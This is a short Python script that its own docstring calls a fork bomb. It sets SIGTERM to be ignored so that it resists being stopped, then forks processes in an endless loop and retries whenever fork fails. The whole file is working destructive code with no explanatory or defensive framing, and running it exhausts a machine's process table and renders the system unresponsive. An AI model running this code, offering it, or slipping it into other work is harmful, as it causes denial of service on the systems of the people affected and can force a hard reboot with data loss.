"""A fork bomb, deaf to requests to end."""

import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        continue
